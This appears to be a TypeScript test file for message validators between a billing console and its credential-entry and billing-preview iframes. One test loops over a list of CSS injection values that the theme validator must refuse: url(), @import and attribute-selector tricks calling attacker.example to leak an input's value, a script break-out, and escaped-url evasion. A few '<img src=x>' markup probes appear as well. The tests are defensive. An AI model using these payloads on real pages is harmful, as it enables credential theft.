import assert from 'node:assert/strict';
import {describe, it} from 'node:test';
import {isFramePairing, isSafeThemeValue} from './frame-pairing.ts';
import {isKeysFrameIn, isKeysFrameOut} from './keys-frame.ts';
import {isPreviewFrameIn, isPreviewFrameOut} from './preview-frame.ts';

describe('messages from the key-entry frame', () => {
  it('say it is ready (a frame in a hidden section never reports a height), with nothing else', () => {
    assert.equal(isKeysFrameOut({type: 'ready'}), true);
    assert.equal(isKeysFrameOut({type: 'ready', keys: {accessKeyId: 'AKIAIOSFODNN7EXAMPLE', secretAccessKey: 'x'}}), false);
    assert.equal(isKeysFrameOut({type: 'height', height: 120}), true);
    assert.equal(isKeysFrameOut({type: 'height', height: Number.NaN}), false);
  });
});

describe('messages to the key-entry frame', () => {
  const state = {heading: 'Pricing credentials', errors: {}, accepted: false};
  it('carry the expected IAM user with the state, for the row of a CSV of several users', () => {
    assert.equal(isKeysFrameIn({type: 'state', state}), true);
    assert.equal(isKeysFrameIn({type: 'state', state: {...state, expectedUserName: 'abiquo-billing-user'}}), true);
  });
  it('refuse an expected user that is not a string', () => {
    assert.equal(isKeysFrameIn({type: 'state', state: {...state, expectedUserName: 7}}), false);
    assert.equal(isKeysFrameIn({type: 'state', state: {...state, expectedUserName: {name: 'x'}}}), false);
  });
});

describe("the key-entry frame's pairing and the tab's look it carries", () => {
  const pairing = {boa: 'frame-pair', token: 'one-time-token', language: 'en'};
  // The values the console's look gives, as computed styles serialise them (console-theme.ts).
  const theme = {
    primaryBg: 'rgb(0, 105, 192)',
    primaryBorder: 'rgba(0, 85, 153, 0.8)',
    buttonPadding: '4px 12px 4px 12px',
    buttonRadius: '4px',
    fontFamily: '"Helvetica Neue", Helvetica, Arial, sans-serif',
    fontSize: '14px',
    inputBorderColor: 'rgb(118 118 118 / 90%)',
  };

  it("is accepted with the console's look, or with none read", () => {
    assert.equal(isFramePairing({...pairing, theme}), true);
    assert.equal(isFramePairing({...pairing, theme: {}}), true);
  });

  it('is refused without a theme, or with one that is not a plain object', () => {
    assert.equal(isFramePairing(pairing), false);
    for (const bad of [null, 'rgb(0, 0, 0)', ['rgb(0, 0, 0)']]) assert.equal(isFramePairing({...pairing, theme: bad}), false, JSON.stringify(bad));
  });

  it('is refused with a property the tab does not theme, or a value that is not a string', () => {
    assert.equal(isFramePairing({...pairing, theme: {...theme, background: 'rgb(0, 0, 0)'}}), false);
    assert.equal(isFramePairing({...pairing, theme: {...theme, '--boa-primary-bg': 'rgb(0, 0, 0)'}}), false);
    assert.equal(isFramePairing({...pairing, theme: {...theme, fontSize: 14}}), false);
    assert.equal(isFramePairing({...pairing, theme: {...theme, primaryBg: undefined}}), false);
  });

  // What a page that spoiled the console's computed styles could hand the frame, the secret's side.
  const injections = [
    'red; background: url(https://attacker.example/leak)',
    'red} input[value^="A"] { background: red',
    'red { }',
    'url(https://attacker.example/leak)',
    'URL(https://attacker.example/leak)',
    'image-set("https://attacker.example/leak" 1x)',
    '-webkit-image-set("https://attacker.example/leak" 1x)',
    'var(--page-property)',
    'attr(value)',
    'env(safe-area-inset-top)',
    '</style><script>alert(1)</script>',
    '\\75 rl(https://attacker.example/leak)',
    'red /* comment */',
    'red !important',
    '"Helvetica"\n; color: red',
    'rgb(0, 0, 0) url(https://attacker.example/leak)',
    'xrgb(0, 0, 0)',
    '@import "https://attacker.example/x.css"',
    `${'a'.repeat(201)}`,
    '',
  ];
  for (const value of injections) {
    it(`is refused with a theme value that could inject CSS: ${JSON.stringify(value.slice(0, 60))}`, () => {
      assert.equal(isSafeThemeValue(value), false);
      assert.equal(isFramePairing({...pairing, theme: {...theme, fontFamily: value}}), false);
    });
  }

  it('takes the theme values the console gives', () => {
    for (const value of Object.values(theme)) assert.equal(isSafeThemeValue(value), true, value);
    assert.equal(isSafeThemeValue("'Open Sans', sans-serif"), true);
  });
});

describe('messages between the tab and the billing preview frame', () => {
  const request = {
    keys: {accessKeyId: 'AKIAIOSFODNN7EXAMPLE', secretAccessKey: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'},
    report: {bucket: 'acme-billing', region: 'us-east-1', prefix: 'cur', reportName: 'abiquo-hourly', billingPeriod: '20261101-20261201', compression: 'GZIP'},
    basis: 'unblended',
    payerAccount: '123456789012',
    linked: [
      {enterpriseId: 43, name: 'Acme Retail', awsAccountId: '210987654321'},
      {enterpriseId: 44, name: 'Acme Staging'},
    ],
  };
  it('a request to read, whole, or to stop', () => {
    assert.equal(isPreviewFrameIn({type: 'start', request}), true);
    assert.equal(isPreviewFrameIn({type: 'start', request: {...request, report: {...request.report, prefix: '', folder: '/abiquo-hourly/'}}}), true);
    assert.equal(isPreviewFrameIn({type: 'cancel'}), true);
  });
  it('refuse a request missing a part or with one of another shape', () => {
    const {keys: _keys, ...keyless} = request;
    for (const bad of [
      keyless,
      {...request, basis: 'amortized'},
      {...request, report: {...request.report, compression: 'Parquet'}},
      {...request, report: {...request.report, bucket: 7}},
      {...request, report: {...request.report, folder: 7}},
      {...request, linked: [{name: 'Acme Retail'}]},
      {...request, linked: 'Acme Retail'},
      {...request, payerAccount: 123456789012},
    ]) {
      assert.equal(isPreviewFrameIn({type: 'start', request: bad}), false, JSON.stringify(bad).slice(0, 120));
    }
  });
  it('from the frame: ready, or "Add account" for an AWS account ID only', () => {
    assert.equal(isPreviewFrameOut({type: 'ready'}), true);
    assert.equal(isPreviewFrameOut({type: 'add-account', accountId: '567890123456'}), true);
    for (const accountId of ['5678', '56789012345a', '<img src=x>', 567890123456])
      assert.equal(isPreviewFrameOut({type: 'add-account', accountId}), false, String(accountId));
  });
});
